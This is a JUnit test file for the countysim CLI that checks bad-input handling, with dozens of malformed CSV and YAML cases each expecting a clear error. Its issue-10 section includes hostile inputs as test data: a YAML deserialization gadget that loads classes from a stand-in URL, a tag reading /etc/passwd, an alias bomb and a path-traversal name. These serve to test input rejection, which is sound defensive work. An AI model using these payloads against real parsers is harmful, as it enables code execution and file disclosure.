package org.countysim.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.countysim.testing.Fixtures;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every bad input meets one clear message naming where the problem is, exit code 2, no stack trace, and
 * leaves earlier results untouched.
 */
class BadInputTest {
    @TempDir
    Path dir;

    Path out;

    static final String GOOD_ROW = Fixtures.exact("u1", 100);

    @BeforeEach
    void earlierResults() throws Exception {
        out = dir.resolve("out");
        Files.createDirectories(out);
        Files.writeString(out.resolve("summary.csv"), "earlier results\n");
    }

    static final String SCENARIO = "{scenario}";
    static final String OUT = "{out}";
    static final String DIR = "{dir}";

    /** What the catalogue runs unless a case says otherwise. */
    static final List<String> RUN = List.of("run", SCENARIO, "--trials", "100", "--no-charts", "--out", OUT);

    /**
     * A case: what to change in a good fixture, a fragment the message must contain, and the command line
     * ({@value #SCENARIO}, {@value #OUT} and {@value #DIR} stand for the fixture's scenario, output and folder).
     */
    record Case(String name, Edit edit, String expected, List<String> args) {
        Case(String name, Edit edit, String expected) {
            this(name, edit, expected, RUN);
        }

        @Override
        public String toString() {
            return name;
        }
    }

    /** The run command line with extra options. */
    static List<String> run(String... extra) {
        List<String> args = new ArrayList<>(RUN);
        args.addAll(List.of(extra));
        return args;
    }

    interface Edit {
        void apply(Fixtures f) throws Exception;
    }

    static Stream<Arguments> cases() {
        List<Case> cases = new ArrayList<>();
        cases.add(new Case(
                "missing baseline file",
                f -> f.with("data", "data:\n  baseline: nowhere.csv"),
                "nowhere.csv does not exist"));
        cases.add(new Case(
                "missing column", f -> f.file("base.csv", "name_zh,year,gdp\nx,2021,100\n"), "missing column 'code'"));
        cases.add(new Case(
                "misspelt column", f -> f.file("base.csv", "code,year,gpd\nu1,2021,100\n"), "did you mean 'gdp'"));
        cases.add(new Case(
                "duplicate column",
                f -> f.file("base.csv", "code,year,gdp,gdp\nu1,2021,100,100\n"),
                "duplicate column 'gdp'"));
        cases.add(new Case(
                "non-numeric cell",
                f -> f.file("base.csv", "code,year,gdp\nu1,2021,100\nu2,2021,abc\n"),
                "base.csv:3:3: gdp 'abc' is not a number"));
        cases.add(new Case(
                "negative GDP",
                f -> f.file("base.csv", "code,year,gdp\nu1,2021,-5\n"),
                "base.csv:2:3: GDP must be positive"));
        cases.add(new Case("zero GDP", f -> f.file("base.csv", "code,year,gdp\nu1,2021,0\n"), "GDP must be positive"));
        cases.add(new Case(
                "negative point GDP beside empty band columns: the gdp cell named",
                f -> f.file("base.csv", "code,year,gdp,gdp_low,gdp_high\nu1,2021,-428.47,,\n"),
                "base.csv:2:3: GDP must be positive (亿元), got -428.47"));
        cases.add(new Case(
                "zero point GDP inside a band: the gdp cell named",
                f -> f.file("base.csv", "code,year,gdp,gdp_low,gdp_high\nu1,2021,0,100,200\n"),
                "base.csv:2:3: GDP must be positive"));
        cases.add(new Case(
                "negative band: the gdp_low cell named",
                f -> f.file("base.csv", "code,year,gdp,gdp_low,gdp_high\nu1,2021,,-5,200\n"),
                "base.csv:2:4: GDP must be positive"));
        cases.add(new Case(
                "band upside down",
                f -> f.file("base.csv", "code,year,gdp_low,gdp_high\nu1,2021,300,200\n"),
                "gdp_low 300 is above gdp_high 200"));
        cases.add(new Case(
                "sectors do not sum",
                f -> f.file("base.csv", "code,year,gdp,primary,secondary,tertiary\nu1,2021,100,10,40,60\n"),
                "sectors sum to 110 but GDP is 100"));
        cases.add(new Case(
                "duplicate unit",
                f -> f.file("base.csv", "code,year,gdp\nu1,2021,100\nu1,2021,120\n"),
                "duplicate unit u1 (first on line 2)"));
        cases.add(new Case(
                "thousands separator",
                f -> f.file("base.csv", "code,year,gdp\nu1,2021,\"1,234\"\n"),
                "thousands separator"));
        cases.add(new Case(
                "misspelt scenario key",
                f -> f.with("simulation", "simulation: {trails: 10}"),
                "unknown key 'trails' (did you mean 'trials'?)"));
        cases.add(new Case(
                "misspelt top-level key",
                f -> f.with("horizon", "horizn: 2025"),
                "unknown key 'horizn' (did you mean 'horizon'?)"));
        cases.add(
                new Case("unknown unit", f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u2x, output: 1, va_ratio: 0.2, start: 2022}
                """), "unknown unit 'u2x' (did you mean 'u1'?)"));
        cases.add(new Case("negative sd", f -> f.with("interventions", """
                interventions:
                  - {id: t, kind: program, quantity: 10, allocation: by_gdp,
                     unit_cost: {dist: normal, mean: 1, sd: -1}}
                """), "interventions[0].unit_cost.sd"));
        cases.add(new Case(
                "mode outside range",
                f -> f.with("trend", "trend:\n  real_growth: {dist: triangular, min: 0," + " mode: 0.2, max: 0.1}"),
                "trend.real_growth.mode"));
        cases.add(new Case(
                "min above max",
                f -> f.with("trend", "trend:\n  real_growth: {dist: uniform, min: 0.2," + " max: 0.1}"),
                "min 0.2 is above max 0.1"));
        cases.add(new Case(
                "weights sum to zero",
                f -> f.with(
                        "trend", "trend:\n  real_growth: {dist: discrete," + " values: [0.1, 0.2], weights: [0, 0]}"),
                "must sum to a positive number"));
        cases.add(new Case(
                "unknown distribution",
                f -> f.with("trend", "trend:\n  real_growth: {dist: normall," + " mean: 0, sd: 1}"),
                "unknown distribution 'normall' (did you mean 'normal'?)"));
        cases.add(new Case(
                "horizon before base year",
                f -> f.with("horizon", "horizon: 2020"),
                "horizon 2020 must come after the base year 2021"));
        cases.add(new Case("YAML syntax", f -> f.with("trend", "trend: [unclosed"), "invalid YAML"));
        cases.add(new Case(
                "duplicate YAML key", f -> f.with("deflator", "deflator: 0\ndeflator: 1"), "duplicate key 'deflator'"));
        cases.add(new Case(
                "base year differs",
                f -> f.with("base_year", "base_year: 2020"),
                "differs from the baseline file's 2021"));
        cases.add(new Case("NaN in scenario", f -> f.with("deflator", "deflator: .nan"), "not a finite number"));
        cases.add(new Case("output name escapes", f -> f.with("name", "name: ../evil"), "name '../evil'"));
        cases.add(new Case("missing tiers", f -> f.without("tiers"), "missing required key 'tiers'"));
        cases.add(new Case(
                "negative threshold",
                f -> f.with("tiers", "tiers:\n  bands:\n    - {threshold: -5, target: 1}"),
                "a threshold must be positive"));
        cases.add(new Case(
                "duplicate threshold",
                f -> f.with(
                        "tiers",
                        "tiers:\n  bands:\n    - {threshold: 5, target: 1}\n" + "    - {threshold: 5, target: 2}"),
                "threshold 5.0 appears twice"));
        cases.add(new Case(
                "unknown counting",
                f -> f.with("tiers", "tiers:\n  counting: exclusiv\n  bands:\n" + "    - {threshold: 5, target: 1}"),
                "did you mean 'exclusive'"));
        cases.add(new Case(
                "counting in capitals is another word",
                f -> f.with("tiers", "tiers:\n  counting: Both\n" + "  bands:\n    - {threshold: 5, target: 1}"),
                "'Both' is not one of [cumulative, exclusive, both]"));
        cases.add(new Case(
                "unknown target form",
                f -> f.with("tiers", "tiers:\n  targets: cumulativ\n  bands:\n" + "    - {threshold: 5, target: 1}"),
                "'cumulativ' is not one of [bands, cumulative]"));
        cases.add(new Case(
                "cumulative targets falling",
                f -> f.with(
                        "tiers",
                        "tiers:\n  targets: cumulative\n  bands:\n"
                                + "    - {threshold: 500, target: 5}\n    - {threshold: 300, target: 4}"),
                "it cannot be smaller than a higher threshold's: ≥300亿 has 4 but ≥500亿 has 5"));
        cases.add(new Case(
                "unknown sector",
                f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, sector: secondry, output: 1, va_ratio: 0.2, start: 2022}
                """),
                "unknown sector 'secondry' (did you mean 'secondary'?)"));
        cases.add(new Case("falling ramp", f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, output: 1, va_ratio: 0.2, start: 2022, ramp: [0.8, 0.4]}
                """), "ramp fractions rise"));
        cases.add(
                new Case("success above one", f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, output: 1, va_ratio: 0.2, start: 2022, success: 1.5}
                """), "success is a probability in [0, 1]"));
        cases.add(new Case("project without start", f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, output: 1, va_ratio: 0.2}
                """), "missing required key 'start'"));
        cases.add(new Case("fractional count", f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, output: 1, va_ratio: 0.2, start: 2022, count: 1.5}
                """), "interventions[0].count"));
        cases.add(new Case(
                "continuous start year",
                f -> f.with("interventions", """
                interventions:
                  - {id: p, kind: project, county: u1, output: 1, va_ratio: 0.2,
                     start: {dist: uniform, min: 2022, max: 2024}}
                """),
                "a discrete distribution of whole numbers"));
        cases.add(new Case(
                "shares above one", f -> f.with("interventions", """
                interventions:
                  - {id: q, kind: program, quantity: 1, unit_cost: 1, allocation: {u1: 1.2}}
                """), "they may sum to less than 1, never more"));
        cases.add(new Case("unknown allocation", f -> f.with("interventions", """
                interventions:
                  - {id: q, kind: program, quantity: 1, unit_cost: 1, allocation: by_population}
                """), "allocation is by_gdp"));
        cases.add(new Case(
                "unknown scope",
                f -> f.with("deflator", "deflator: {dist: normal, mean: 0, sd: 0.01," + " scope: weekly}"),
                "scope 'weekly' is not allowed here"));
        cases.add(new Case(
                "scope not allowed",
                f -> f.with("deflator", "deflator: {dist: normal, mean: 0, sd: 0.01," + " scope: county}"),
                "allowed: year, trial"));
        cases.add(new Case(
                "duplicate intervention id", f -> f.with("interventions", """
                interventions:
                  - {id: g, kind: growth, delta: 0.01}
                  - {id: g, kind: growth, delta: 0.02}
                """), "duplicate intervention id 'g'"));
        cases.add(new Case("unknown kind", f -> f.with("interventions", """
                interventions:
                  - {id: g, kind: policy, delta: 0.01}
                """), "'policy' is not one of"));
        cases.add(new Case("alias bomb", f -> f.with("trend", """
                trend:
                  real_growth: 0
                  note: &a [x, x, x, x, x, x, x, x, x, x]
                bomb1: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
                bomb2: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
                bomb3: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
                bomb4: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
                bomb5: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
                """), "YAML"));
        cases.add(new Case(
                "deep nesting", f -> f.with("deflator", "deflator: " + "[".repeat(80) + "]".repeat(80)), "nested"));
        cases.add(new Case("overflowing number", f -> f.with("deflator", "deflator: 1e400"), "not a finite number"));
        cases.add(new Case(
                "hexadecimal number", f -> f.with("deflator", "deflator: 0x1p-3"), "not a number in decimal notation"));
        cases.add(new Case(
                "Java float suffix", f -> f.with("deflator", "deflator: 0.01f"), "not a number in decimal notation"));
        cases.add(new Case(
                "seed beyond 64 bits",
                f -> f.with("simulation", "simulation: {seed: 99999999999999999999999}"),
                "expected a whole number"));
        cases.add(new Case(
                "horizon a century away",
                f -> f.with("horizon", "horizon: 2200"),
                "more than 100 years after the base year"));
        cases.add(new Case(
                "fractional horizon",
                f -> f.with("horizon", "horizon: 2022.5"),
                "expected a whole number in [1900, 2300]"));
        cases.add(new Case(
                "unknown kind of unit",
                f -> f.with("name", "name: t\nuniverse: {kinds: [countie]}"),
                "no unit of kind 'countie'"));
        cases.add(new Case(
                "band without its upper end",
                f -> f.file("base.csv", "code,year,gdp_low\nu1,2021,100\n"),
                "needs both columns gdp_low and gdp_high"));
        cases.add(new Case(
                "partial sector columns",
                f -> f.file("base.csv", "code,year,gdp,primary\nu1,2021,100,10\n"),
                "sector columns come as a set"));
        cases.add(new Case("empty baseline", f -> f.file("base.csv", ""), "the file is empty"));
        cases.add(new Case(
                "not text",
                f -> f.bytes("base.csv", new byte[] {(byte) 0x81, (byte) 0x20, (byte) 0xFF, (byte) 0xFE, 0x0A}),
                "neither UTF-8 nor GBK/GB18030"));
        cases.add(new Case("rho out of range", f -> f.with("shocks", "shocks: {rho: 1.5}"), "rho must lie in"));
        cases.add(new Case(
                "lognormal in two forms",
                f -> f.with("trend", "trend:\n  real_growth: {dist: lognormal," + " median: 1, sigma: 0.1, mean: 1}"),
                "either median and sigma, or mean and sd"));
        cases.add(new Case(
                "shares not summing to one",
                f -> f.with(
                        "data",
                        "data:\n  baseline: base.csv\n"
                                + "  sector_shares: {primary: 0.5, secondary: 0.4, tertiary: 0.5}"),
                "sector shares must sum to 1"));
        cases.add(new Case(
                "per-unit value for no unit",
                f -> f.with("trend", "trend:\n  real_growth: {default: 0.05," + " units: {u9: 0.06}}"),
                "'u9' is not a unit of the tier universe"));
        cases.add(new Case(
                "fold of an unknown zone",
                f -> f.with("name", "name: t\nuniverse: {fold: {zone-x: u1}}"),
                "unknown unit 'zone-x'"));
        cases.add(new Case(
                "unknown encoding",
                f -> f.with(
                        "data",
                        "data:\n  baseline: base.csv\n  encoding: klingon\n"
                                + "  sector_shares: {primary: 0.1, secondary: 0.4, tertiary: 0.5}"),
                "unknown encoding 'klingon'"));
        cases.addAll(issue10());
        evidenceCases(cases);
        return cases.stream().map(Arguments::of);
    }

    /** Inputs that were accepted, or crashed, before issue 10. */
    static List<Case> issue10() {
        List<Case> cases = new ArrayList<>();
        // The first 300 bytes of the 2021 baseline as shipped before the estimates of 2021 (the cut falls in a status).
        cases.add(new Case(
                "truncated baseline (head -c 300)",
                f -> f.file(
                        "base.csv",
                        Fixtures.HEADER + "\n"
                                + "370883,邹城市,Zoucheng,city,2021,930,925,935,rounded,S3\n"
                                + "370811,任城区,Rencheng,district,2021,,500,930,band,S3\n"
                                + "370812,兖州区,Yanzhou,district,2021,,500,930,band,S3\n"
                                + "370826,微山县,Weishan,county,2021,428.47,428.47,428.47,exac"),
                "base.csv:5: the row has 9 fields but the header has 10"));
        cases.add(new Case(
                "row shorter than the header",
                f -> f.baseline(GOOD_ROW, "u2,,u2,county,2021,100"),
                "base.csv:3: the row has 6 fields but the header has 10"));
        cases.add(new Case(
                "value beyond the header",
                f -> f.file("base.csv", "code,year,gdp\nu1,2021,100,Jining\n"),
                "base.csv:2:4: the row has a value beyond the header's 3 columns"));
        cases.add(new Case(
                "unknown status",
                f -> f.baseline(GOOD_ROW.replace(",exact,", ",approx,")),
                "base.csv:2:9: unknown status 'approx'; status is one of exact, rounded, band, estimate"));
        cases.add(new Case(
                "kind typo",
                f -> f.baseline(GOOD_ROW.replace(",county,", ",countyy,"))
                        .with("name", "name: t\nuniverse: {kinds: [county]}"),
                "base.csv:2:4: unknown kind 'countyy' (did you mean 'county'?)"));
        cases.add(new Case(
                "universe by kind, unit without one",
                f -> f.file("base.csv", "code,year,kind,gdp\n" + "u1,2021,county,100\nu2,2021,,100\n")
                        .with("name", "name: t\nuniverse: {kinds: [county]}"),
                "universe.kinds: unit u2 (" + " && base.csv:3) has no kind"));
        cases.add(new Case(
                "name shared by two units, referenced",
                f -> f.baseline("u1,金乡县,,county,2021,100,100,100,exact,test", "u2,金乡县,,county,2021,90,90,90,exact,test")
                        .with("interventions", """
                        interventions:
                          - {id: g, kind: growth, delta: 0.01, counties: [金乡县]}
                        """),
                "ambiguous unit '金乡县': it names u1 (baseline line 2) and u2 (baseline line 3); use the code"));
        cases.add(new Case(
                "NUL byte in a name",
                f -> f.baseline("u1,a\0b,u1,county,2021,100,100,100,exact,test"),
                "base.csv:2:2: name_zh contains the control character U+0000 at character 2"));
        cases.add(new Case(
                "bidirectional override in a name",
                f -> f.baseline(GOOD_ROW.replaceFirst(",u1,", ",u\u202E1,")),
                "base.csv:2:3: name_en contains the control character U+202E"));
        cases.add(new Case(
                "unknown unit in a list",
                f -> f.with("interventions", """
                interventions:
                  - {id: g, kind: growth, delta: 0.01, counties: [u1, Atlantis]}
                """),
                "interventions[0].counties ( && scenario.yaml:17:50): unknown unit 'Atlantis'"));
        cases.add(new Case(
                "unknown unit in a disabled intervention",
                f -> f.with("interventions", """
                interventions:
                  - {id: g, kind: growth, enabled: false, delta: 0.01, counties: [u1, Atlantis]}
                """),
                "unknown unit 'Atlantis'"));
        cases.add(new Case(
                "list for trials, even with --trials",
                f -> f.with("simulation", "simulation: {trials: [1, 2], seed: 1}"),
                "simulation.trials ( && scenario.yaml:7:22): expected a number, got a list"));
        cases.add(new Case(
                "list for the title",
                f -> f.with("name", "name: t\ntitle: [a, b]"),
                "title ( && scenario.yaml:2:8): expected text, got a list"));
        cases.add(new Case(
                "tag !!java.io.File",
                f -> f.with("name", "name: t\ntitle: !!java.io.File /etc/passwd"),
                "scenario.yaml:2:8: YAML tags such as '!!java.io.File' are not allowed"));
        cases.add(new Case(
                "tag !!javax.script.ScriptEngineManager",
                f -> f.with(
                        "name",
                        "name: t\ntitle:"
                                + " !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"),
                "'!!javax.script.ScriptEngineManager' are not allowed"));
        cases.add(new Case("local tag", f -> f.with("deflator", "deflator: !mine 0"), "YAML tags such as '!mine'"));
        cases.add(new Case("tag in --set", f -> {}, "YAML tags such as '!!float'", run("--set", "deflator=!!float 0")));
        cases.add(new Case(
                "2,000,000 characters of comment", f -> f.with("name", "name: t\n# " + "x".repeat(2_000_000)), "2000"));
        cases.add(new Case(
                "150 aliases of a scalar",
                f -> f.with(
                        "name",
                        "name: t\ndescription: {a: &x 1, b: ["
                                + String.join(", ", java.util.Collections.nCopies(150, "*x")) + "]}"),
                "more than 100 YAML aliases"));
        cases.add(new Case(
                "100,001 values in one list",
                f -> f.with("name", "name: t\ndescription: [" + "1,".repeat(100_000) + "1]"),
                "scenario.yaml:2: && more than 100000 YAML values"));
        cases.add(new Case(
                "60 MB scenario",
                f -> sparse(f.dir().resolve("huge.yaml"), 60L << 20),
                "huge.yaml is larger than 4 MiB",
                List.of("run", DIR + "/huge.yaml", "--out", OUT)));
        cases.add(new Case(
                "16 M characters of YAML (would parse for a minute)",
                f -> f.file("long.yaml", "name: t\n# " + "x".repeat(16_000_000)),
                "long.yaml is larger than 4 MiB",
                List.of("run", DIR + "/long.yaml", "--out", OUT)));
        cases.add(new Case(
                "--attribution-trials -5",
                f -> {},
                "--attribution-trials is a number of trials",
                run("--attribution-trials", "-5")));
        cases.add(new Case(
                "compare the same file twice",
                f -> {},
                "scenario.yaml is given twice",
                List.of("compare", SCENARIO, SCENARIO, "--out", OUT)));
        cases.add(new Case(
                "compare the same file by two names",
                f -> {},
                "is given twice",
                List.of("compare", SCENARIO, DIR + "/./scenario.yaml", "--out", OUT)));
        cases.add(new Case(
                "100,000 baseline rows",
                f -> f.baseline(java.util.stream.IntStream.range(0, 100_000)
                        .mapToObj(i -> Fixtures.exact("u" + i, 100))
                        .toArray(String[]::new)),
                "base.csv:5002: more than 5000 units"));
        cases.add(new Case(
                "name of 5,000,000 characters",
                f -> f.baseline(GOOD_ROW.replaceFirst(",,", "," + "x".repeat(5_000_000) + ",")),
                "base.csv:2:2: name_zh is 5000000 characters long; at most 200"));
        cases.add(new Case(
                "title of 300 characters",
                f -> f.with("name", "name: t\ntitle: " + "x".repeat(300)),
                "title ( && scenario.yaml:2:8): the text is 300 characters long; at most 200"));
        cases.add(new Case(
                "NUL escape in a label",
                f -> f.with("interventions", """
                interventions:
                  - {id: g, kind: growth, delta: 0.01, label: "a\\0b"}
                """),
                "interventions[0].label ( && the text contains the control character U+0000"));
        cases.add(new Case(
                "gdp 1e307",
                f -> f.baseline("u1,,u1,county,2021,1e307,,,exact,test"),
                "base.csv:2:6: gdp 1e307 is above 1,000,000,000 亿元"));
        cases.add(new Case(
                "sector value 1e300",
                f -> f.file("base.csv", "code,year,gdp,primary,secondary,tertiary\n" + "u1,2021,100,1e300,40,60\n"),
                "base.csv:2:4: primary 1e300 is above"));
        cases.add(new Case(
                "--set with an index beyond an int",
                f -> {},
                "--set interventions[99999999999].quantity: interventions has 0 entries",
                run("--set", "interventions[99999999999].quantity=1")));
        cases.add(new Case(
                "NUL in the baseline's path",
                f -> f.with("data", "data:\n  baseline: \"a\\0b.csv\""),
                "data.baseline ( && not a valid file path"));
        cases.add(new Case(
                "--out /", f -> {}, "--out / is the root of the file system", List.of("run", SCENARIO, "--out", "/")));
        // Output folders (issue 10): countysim only replaces a folder it wrote; each refusal leaves every file as it
        // was.
        cases.add(
                new Case("--out .", f -> {}, "--out . is the working folder", List.of("run", SCENARIO, "--out", ".")));
        cases.add(new Case("--out ''", f -> {}, "--out '' names no folder", List.of("run", SCENARIO, "--out", "")));
        cases.add(new Case(
                "--out the folder holding the inputs",
                f -> {},
                "holds an input of this run",
                List.of("run", SCENARIO, "--out", DIR)));
        cases.add(new Case(
                "--out an existing file",
                f -> f.file("notes.txt", "mine\n"),
                "is an existing file",
                List.of("run", SCENARIO, "--out", DIR + "/notes.txt")));
        cases.add(new Case(
                "--out a folder with files countysim did not write",
                f -> {},
                "already holds files countysim did not write (summary.csv)"));
        if (Files.exists(Path.of("/dev/zero"))) {
            cases.add(new Case(
                    "baseline /dev/zero",
                    f -> f.with("data", "data:\n  baseline: /dev/zero"),
                    "baseline file /dev/zero is larger than 16 MiB"));
            cases.add(new Case(
                    "scenario /dev/zero",
                    f -> {},
                    "scenario file /dev/zero is larger than 4 MiB",
                    List.of("run", "/dev/zero", "--out", OUT)));
        }
        return cases;
    }

    /** A file of the given size that takes no time to write (a hole, where the filesystem supports it). */
    private static void sparse(Path file, long size) throws java.io.IOException {
        try (java.io.RandomAccessFile f = new java.io.RandomAccessFile(file.toFile(), "rw")) {
            f.setLength(size);
        }
    }

    /** Evidence (model.md §11): every bad observation names its scenario path. */
    static void evidenceCases(List<Case> cases) {
        cases.add(new Case(
                "evidence: unknown unit",
                f -> f.with("evidence", "evidence:\n" + "  - {units: [u2x], year: 2021, value: 100, sd: 1}"),
                "evidence[0].units"));
        cases.add(new Case(
                "evidence: unknown unit, did you mean",
                f -> f.with("evidence", "evidence:\n" + "  - {units: u2x, year: 2021, value: 100, sd: 1}"),
                "unknown unit 'u2x' (did you mean 'u1'?)"));
        cases.add(new Case(
                "evidence: year before the base year",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2019, value: 100, sd: 1}"),
                "evidence[0].year ("));
        cases.add(new Case(
                "evidence: year before the base year, why",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2019, value: 100, sd: 1}"),
                "year 2019 is before the base year 2021"));
        cases.add(new Case(
                "evidence: year after the horizon",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2030, value: 100, sd: 1}"),
                "year 2030 is after the horizon 2022"));
        cases.add(new Case(
                "evidence: zero sd",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, sd: 0}"),
                "evidence[0].sd"));
        cases.add(new Case(
                "evidence: zero tolerance refused with its reason",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, sd: 0}"),
                "rounding alone justifies one"));
        cases.add(new Case(
                "evidence: negative half-width",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, within: -5}"),
                "evidence[0].within"));
        cases.add(new Case(
                "evidence: NaN value",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: .nan, sd: 1}"),
                "evidence[0].value"));
        cases.add(new Case(
                "evidence: infinite tolerance",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, sd: .inf}"),
                "not a finite number"));
        cases.add(new Case(
                "evidence: zero value",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 0, sd: 1}"),
                "the observed value must be positive"));
        cases.add(new Case(
                "evidence: negative value",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: -100, sd: 1}"),
                "evidence[0].value"));
        cases.add(new Case(
                "evidence: both tolerances",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, sd: 1, within: 2}"),
                "evidence[0]"));
        cases.add(new Case(
                "evidence: both tolerances, which",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100, sd: 1, within: 2}"),
                "give one tolerance"));
        cases.add(new Case(
                "evidence: no tolerance",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, value: 100}"),
                "missing a tolerance"));
        cases.add(new Case(
                "evidence: no year",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, value: 100, sd: 1}"),
                "missing required key 'year'"));
        cases.add(new Case(
                "evidence: misspelt key",
                f -> f.with("evidence", "evidence:\n" + "  - {units: all, year: 2021, vlaue: 100, sd: 1}"),
                "unknown key 'vlaue' (did you mean 'value'?)"));
        cases.add(new Case(
                "evidence: a unit listed twice",
                f -> f.with("evidence", "evidence:\n" + "  - {units: [u1, U1], year: 2021, value: 100, sd: 1}"),
                "listed twice"));
        cases.add(
                new Case("evidence: not a list", f -> f.with("evidence", "evidence: {units: all}"), "expected a list"));
        cases.add(new Case(
                "evidence: later year sums a unit outside the universe",
                f -> {
                    f.baseline(GOOD_ROW, "z1,,z1,zone,2021,,10,20,band,test");
                    f.with("name", "name: t\nuniverse: {kinds: [county]}");
                    f.with("evidence", "evidence:\n  - {units: all, year: 2022, value: 120, sd: 5}");
                },
                "can only sum projected units: the model has no GDP of z1 in 2022"));
        cases.add(new Case(
                "counted_inside: unknown unit",
                f -> f.with("name", "name: t\nuniverse: {counted_inside: [zz]}"),
                "universe.counted_inside: unknown unit 'zz'"));
        cases.add(new Case(
                "counted_inside: also projected",
                f -> f.with("name", "name: t\nuniverse: {units: [u1], counted_inside: [u1]}"),
                "cannot be projected too"));
    }

    @org.junit.jupiter.api.Test
    void theCatalogueHasAtLeastFortyDistinctCases() {
        assertTrue(cases().count() >= 40, "the hardening issue asks for at least 40");
        List<Case> evidence = new ArrayList<>();
        evidenceCases(evidence);
        assertTrue(evidence.size() >= 20, "evidence: each bad case of issue 12, and more");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void badInputGivesOneClearMessage(Case c) throws Exception {
        Fixtures f = new Fixtures(dir).baseline(GOOD_ROW);
        c.edit().apply(f);
        Path scenario = f.scenario();
        String[] args = c.args().stream()
                .map(a -> a.replace(SCENARIO, scenario.toString())
                        .replace(OUT, out.toString())
                        .replace(DIR, dir.toString()))
                .toArray(String[]::new);
        assertBadInput(Fixtures.cli(args), c.expected());
    }

    @org.junit.jupiter.api.Test
    void missingScenarioFile() {
        assertBadInput(
                Fixtures.cli("run", dir.resolve("nope.yaml").toString(), "--out", out.toString()),
                "nope.yaml does not exist");
    }

    @org.junit.jupiter.api.Test
    void unknownSetPath() throws Exception {
        Path scenario = new Fixtures(dir).baseline(GOOD_ROW).scenario();
        assertBadInput(
                Fixtures.cli("run", scenario.toString(), "--set", "shockz.rho=0.5", "--out", out.toString()),
                "unknown key 'shockz' (did you mean 'shocks'?)");
    }

    @org.junit.jupiter.api.Test
    void badOptionValueIsAUsageError() throws Exception {
        Path scenario = new Fixtures(dir).baseline(GOOD_ROW).scenario();
        Fixtures.CliResult r = Fixtures.cli("run", scenario.toString(), "--trials", "many", "--out", out.toString());
        assertEquals(2, r.exitCode());
        assertEquals(
                "countysim run: error: Invalid value for option '--trials': 'many' is not a long\n"
                        + "Try 'countysim run --help'.\n",
                r.err(),
                "two lines, no usage dump");
    }

    /** A typo in --counting is a usage error naming the option, never another counting. */
    @org.junit.jupiter.api.Test
    void unknownCountingOptionIsAUsageError() throws Exception {
        Path scenario = new Fixtures(dir).baseline(GOOD_ROW).scenario();
        Fixtures.CliResult r =
                Fixtures.cli("run", scenario.toString(), "--counting", "exclusiv", "--out", out.toString());
        assertEquals(2, r.exitCode());
        assertTrue(
                r.err()
                        .startsWith("countysim run: error: Invalid value for option '--counting': expected one of"
                                + " cumulative|exclusive|both but was 'exclusiv'\n"),
                r.err());
        assertFalse(r.err().contains("Usage:"), r.err());
        assertEquals("earlier results\n", Files.readString(out.resolve("summary.csv")), "earlier results untouched");
    }

    /** Choices are listed in lower case, but upper case is still accepted (picocli case-insensitive enums). */
    @org.junit.jupiter.api.Test
    void countingInUpperCaseIsStillAccepted() throws Exception {
        Path scenario = new Fixtures(dir).baseline(GOOD_ROW).scenario();
        Fixtures.CliResult r = Fixtures.cli(
                "run",
                scenario.toString(),
                "--counting",
                "EXCLUSIVE",
                "--trials",
                "100",
                "--no-charts",
                "--out",
                dir.resolve("upper").toString());
        assertEquals(0, r.exitCode(), r.err());
    }

    @org.junit.jupiter.api.Test
    void runningOutOfMemoryIsAnInputErrorWithAdvice() {
        java.io.StringWriter err = new java.io.StringWriter();
        int code =
                ErrorHandler.outOfMemory(new java.io.PrintWriter(err), false, new OutOfMemoryError("Java heap space"));
        assertEquals(ExitCodes.INPUT, code);
        assertTrue(err.toString().contains("not enough memory for this run"), err.toString());
        assertTrue(err.toString().contains("COUNTYSIM_JAVA_OPTS=-Xmx"), err.toString());
        assertFalse(err.toString().contains("\tat "), err.toString());
    }

    @org.junit.jupiter.api.Test
    void debugShowsTheStackTrace() throws Exception {
        Fixtures.CliResult r =
                Fixtures.cli("run", dir.resolve("nope.yaml").toString(), "--debug", "--out", out.toString());
        assertEquals(2, r.exitCode());
        assertTrue(r.err().contains("\tat org.countysim"), r.err());
    }

    /** @param expected a fragment of the message, or several joined by " && " that must all appear */
    private void assertBadInput(Fixtures.CliResult r, String expected) {
        assertEquals(2, r.exitCode(), r.err());
        for (String fragment : expected.split(" && ")) {
            assertTrue(r.err().contains(fragment), "expected «" + fragment + "» in: " + r.err());
        }
        assertFalse(r.err().contains("\tat "), "no stack trace without --debug: " + r.err());
